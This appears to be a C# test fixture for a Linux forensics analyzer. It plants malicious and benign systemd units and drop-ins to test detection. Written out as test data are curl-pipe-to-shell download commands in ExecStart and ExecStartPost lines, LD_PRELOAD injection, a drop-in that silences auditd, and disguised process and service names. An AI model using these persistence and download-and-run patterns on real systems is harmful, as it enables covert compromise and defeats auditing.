using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>systemd services and drop-ins.</summary>
internal static class UnitPlants
{
    private const string Etc = "/etc/systemd/system/";
    private const string Vendor = "/usr/lib/systemd/system/";
    private const string Drop = "/etc/systemd/system/ssh.service.d/";

    private static string Unit(string service, string more = "") => $"[Unit]\nDescription=Collects statistics\n{more}[Service]\n{service}\n[Install]\nWantedBy=multi-user.target\n";

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-UNIT", "shell-with-download", Loud, tree => tree.Service("sysupdate", "/bin/sh -c 'curl -s http://203.0.113.9/x | sh'")),
        new("L-UNIT", "kernel-thread-name", Loud, tree => tree.Service("stats", "@/usr/bin/python3 [kworker/0:1] /opt/a.py").File("/opt/a.py", "print('x')\n")) { Host = PlantHost.RedHat },
        new("L-UNIT", "fake-agent", Loud, tree => tree.Service("aliyun", "/usr/local/bin/aliyun-service").Program("/usr/local/bin/aliyun-service")) { Rule = "fake-agent" },
        new("L-UNIT", "shell-prefix", Loud, tree => tree.Service("stats", "|curl -s http://203.0.113.9/x | sh")),
        new("L-UNIT", "quiet-linked-program", Quiet, tree => tree.Service("stats-collect", "/usr/bin/stats-collect --daemon").Linked("/usr/bin/stats-collect")) { Entries = [Etc + "stats-collect.service"] },
        new("L-UNIT", "quiet-miner", Quiet, tree => tree.Service("stats-collect", "/usr/sbin/stats-collectd", "Restart=always\n").Miner("/usr/sbin/stats-collectd")) { Host = PlantHost.RedHat, Entries = [Etc + "stats-collect.service"] },
        new("L-UNIT", "quiet-script", Quiet, tree => tree.Service("stats-collect", "/usr/local/sbin/stats-collect").Beacon("/usr/local/sbin/stats-collect")) { Entries = [Etc + "stats-collect.service"] },
        new("L-UNIT", "quiet-second-command", Quiet, tree => tree.Service("stats-collect", "/usr/bin/id ; /usr/libexec/stats-post", "Type=oneshot\n").Linked("/usr/libexec/stats-post")) { Entries = [Etc + "stats-collect.service"] },
        new("L-UNIT", "quiet-variable", Quiet, tree => tree.Service("stats-collect", "/usr/bin/env ${TOOL} --all", "Environment=TOOL=/usr/libexec/stats-post\n").Linked("/usr/libexec/stats-post")) { Entries = [Etc + "stats-collect.service"] },
        new("L-UNIT", "quiet-bound-program", Quiet, tree => tree.Service("web2", "/usr/sbin/nginx", "BindReadOnlyPaths=/usr/share/web2/engine:/usr/sbin/nginx\n").Miner("/usr/share/web2/engine")) { Entries = [Etc + "web2.service"] },
        new("L-UNIT", "quiet-root-directory", Quiet, tree => tree.Service("web2", "/bin/engine", "RootDirectory=/usr/share/web2\n").Miner("/usr/share/web2/bin/engine")) { Entries = [Etc + "web2.service"] },
        new("L-UNIT", "quiet-search-path", Quiet, tree => tree.Service("web2", "engine --serve", "ExecSearchPath=/usr/share/web2:/usr/bin\n").Miner("/usr/share/web2/engine")) { Entries = [Etc + "web2.service"] },
        new("L-UNIT", "quiet-instance", Quiet, tree => tree.File(Etc + "worker@.service", Unit("ExecStart=/usr/share/worker/%i")).Link(Etc + "multi-user.target.wants/worker@main.service", Etc + "worker@.service").File(Etc + "worker@main.service", Unit("ExecStart=/usr/share/worker/%i")).Miner("/usr/share/worker/main")) { Entries = [Etc + "worker@.service"] },
        new("L-UNIT", "quiet-linked-unit", Quiet, tree => tree.Link(Etc + "stats.service", "/opt/stats/stats.service").Link(Etc + "multi-user.target.wants/stats.service", "/opt/stats/stats.service")
            .File("/opt/stats/stats.service", Unit("ExecStart=/opt/stats/run")).Launcher("/opt/stats/run")) { Entries = ["/opt/stats/stats.service"] },
        new("L-UNIT", "quiet-wanted-by-another", Quiet, tree => tree.Service("metrics", "/usr/bin/id").Change(Etc + "metrics.service", file => file with { Content = "[Unit]\nOnFailure=metrics-report.service\n[Service]\nExecStart=/usr/bin/false\n[Install]\nWantedBy=multi-user.target\n"u8.ToArray() })
            .File(Etc + "metrics-report.service", "[Service]\nExecStart=/usr/libexec/metrics-report\n").Linked("/usr/libexec/metrics-report")) { Entries = [Etc + "metrics-report.service", Etc + "metrics.service"] },
        new("L-UNIT", "quiet-among-vendor-units", Quiet, tree => tree.File(Vendor + "dbus-cache.service", Unit("ExecStart=/usr/bin/id")).Link(Etc + "multi-user.target.wants/dbus-cache.service", Vendor + "dbus-cache.service"))
            { AtLeast = Severity.Medium, Rule = "unowned-among-packages", Entries = [Vendor + "dbus-cache.service"] },
        new("L-UNIT", "quiet-changed-vendor-unit", Quiet, tree => tree.Replace(Vendor + "ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStartPre=/usr/bin/id\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n"u8.ToArray()))
            { AtLeast = Severity.Medium, Rule = "changed-package-file", Entries = [Vendor + "ssh.service"] },
        new("L-UNIT", "quiet-imitation", Quiet, tree => tree.Service("systemd-timesyncer", "/usr/bin/id")) { AtLeast = Severity.Medium, Rule = "imitates-vendor-unit", Entries = [Etc + "systemd-timesyncer.service"] },
        new("L-UNIT", "quiet-misspelt", Quiet, tree => tree.Service("ngimx", "/usr/bin/id")) { AtLeast = Severity.Medium, Rule = "imitates-vendor-unit", Entries = [Etc + "ngimx.service"] },
        new("L-UNIT", "quiet-environment-file", Quiet, tree => tree.Service("web2", "/usr/sbin/nginx", "EnvironmentFile=-/etc/default/web2\n").File("/etc/default/web2", "LANG=C\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libweb2.so.1\n")
            .Program("/usr/lib/x86_64-linux-gnu/libweb2.so.1", new PlantedElf { Seed = "web2", IsLibrary = true })) { Entries = [Etc + "web2.service"] },
        new("L-UNIT", "never-enabled", Dormant, tree => tree.Service("stats-collect", "/usr/bin/stats-collect --daemon", enabled: false).Linked("/usr/bin/stats-collect")) { TwinOf = "quiet-linked-program" },
        new("L-UNIT", "masked", Dormant, tree => tree.Service("stats-collect", "/usr/bin/stats-collect --daemon").Linked("/usr/bin/stats-collect").Link("/run/systemd/transient/stats-collect.service", "/dev/null")) { TwinOf = "quiet-linked-program" },
        new("L-UNIT", "unclosed-quote", Dormant, tree => tree.Service("stats-collect", "/usr/bin/stats-collect \"--daemon").Linked("/usr/bin/stats-collect")) { TwinOf = "quiet-linked-program" },
        new("L-UNIT", "taken-out-by-drop-in", Dormant, tree => tree.Service("stats-collect", "/usr/bin/stats-collect --daemon").Linked("/usr/bin/stats-collect").File(Etc + "stats-collect.service.d/10-safe.conf", "[Service]\nExecStart=\nExecStart=/usr/bin/id\n")) { TwinOf = "quiet-linked-program" },
        new("L-UNIT", "outside-search-path", Dormant, tree => tree.File("/usr/lib/systemd/stats-collect.service", Unit("ExecStart=/usr/bin/stats-collect --daemon")).Linked("/usr/bin/stats-collect")) { TwinOf = "quiet-linked-program" },
        new("L-UNIT", "runner-and-node", Benign, tree => tree.Service("actions-runner", "/opt/actions-runner/run.sh", "User=alice\n").Script("/opt/actions-runner/run.sh", "#!/bin/bash\ncd /opt/actions-runner\n./bin/Runner.Listener run\n")
            .Service("shop-api", "/home/alice/.nvm/versions/node/v20/bin/node server.js", "User=alice\n").Program("/home/alice/.nvm/versions/node/v20/bin/node")),
        new("L-UNIT", "second-instance", Benign, tree => tree.File(Etc + "nginx2.service", "[Unit]\nDescription=web server\n[Service]\nExecStart=/usr/sbin/nginx -c /etc/nginx/second.conf\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/nginx2.service", Etc + "nginx2.service")),
        new("L-UNIT", "real-cloud-agent", Benign, tree => tree.Service("aliyun", "/usr/local/share/aliyun-assist/2.2.3.1/aliyun-service").Program("/usr/local/share/aliyun-assist/2.2.3.1/aliyun-service")) { Host = PlantHost.RedHat },
        new("L-UNIT", "pipe-without-shell", Benign, tree => tree.Service("fetch", "/usr/bin/curl http://203.0.113.9/x | sh", "Type=oneshot\n")),

        new("L-UNIT-DROPIN", "post-start-download", Loud, tree => tree.File(Drop + "10-keys.conf", "[Service]\nExecStartPost=-/bin/sh -c 'curl -s http://203.0.113.9/x|sh'\n")),
        new("L-UNIT-DROPIN", "preload", Loud, tree => tree.File(Drop + "10-env.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/local/lib/libenv.so\n").Program("/usr/local/lib/libenv.so", new PlantedElf { Seed = "env", IsLibrary = true })),
        new("L-UNIT-DROPIN", "quiet-pre-start", Quiet, tree => tree.File(Drop + "10-keys.conf", "[Service]\nExecStartPre=/usr/libexec/ssh-keys-check\n").Linked("/usr/libexec/ssh-keys-check")) { Entries = [Drop + "10-keys.conf"] },
        new("L-UNIT-DROPIN", "quiet-replaced-start", Quiet, tree => tree.File(Drop + "override.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd-session-monitor -D\n").Miner("/usr/sbin/sshd-session-monitor")) { Host = PlantHost.RedHat, Entries = [Drop + "override.conf"] },
        new("L-UNIT-DROPIN", "quiet-type-level", Quiet, tree => tree.File(Etc + "service.d/10-accounting.conf", "[Service]\nExecStopPost=/usr/libexec/accounting\n").Launcher("/usr/libexec/accounting")) { Entries = [Etc + "service.d/10-accounting.conf"] },
        new("L-UNIT-DROPIN", "quiet-no-more-audit", Quiet, tree => tree.Owned("auditd", Vendor + "auditd.service", "[Unit]\nDescription=Security Auditing Service\n[Service]\nExecStart=/sbin/auditd\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/auditd.service", Vendor + "auditd.service")
            .File(Etc + "auditd.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/bin/true\n")) { AtLeast = Severity.Medium, Rule = "empties-security-service", Entries = [Etc + "auditd.service.d/override.conf"] },
        new("L-UNIT-DROPIN", "same-name-ranks-higher", Dormant, tree => tree.File("/usr/local/lib/systemd/system/ssh.service.d/10-keys.conf", "[Service]\nExecStartPre=/usr/libexec/ssh-keys-check\n").File(Drop + "10-keys.conf", "[Service]\nNice=1\n").Linked("/usr/libexec/ssh-keys-check")) { TwinOf = "quiet-pre-start" },
        new("L-UNIT-DROPIN", "of-a-unit-not-enabled", Dormant, tree => tree.File(Etc + "nginx.service.d/10-keys.conf", "[Service]\nExecStartPre=/usr/libexec/ssh-keys-check\n").Linked("/usr/libexec/ssh-keys-check")) { TwinOf = "quiet-pre-start" },
        new("L-UNIT-DROPIN", "of-no-unit", Dormant, tree => tree.File(Etc + "telnet.service.d/10-keys.conf", "[Service]\nExecStartPre=/usr/libexec/ssh-keys-check\n").Linked("/usr/libexec/ssh-keys-check")) { TwinOf = "quiet-pre-start" },
        new("L-UNIT-DROPIN", "docker-proxy-and-limits", Benign, tree => tree.OwnedProgram("docker", "/usr/bin/dockerd").Owned("docker", Vendor + "docker.service", "[Service]\nExecStart=/usr/bin/dockerd -H fd://\n[Install]\nWantedBy=multi-user.target\n").Link(Etc + "multi-user.target.wants/docker.service", Vendor + "docker.service")
            .File(Etc + "docker.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// --log-driver=journald\nEnvironment=HTTP_PROXY=http://proxy.example:3128\n").File(Drop + "limits.conf", "[Service]\nLimitNOFILE=65536\n")),
        new("L-UNIT-DROPIN", "getty-autologin", Benign, tree => tree.Owned("systemd", Vendor + "getty@.service", "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n").Link(Etc + "getty.target.wants/getty@tty1.service", Vendor + "getty@.service")
            .File(Etc + "getty@tty1.service.d/autologin.conf", "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin alice --noclear %I $TERM\n")),
    ];
}
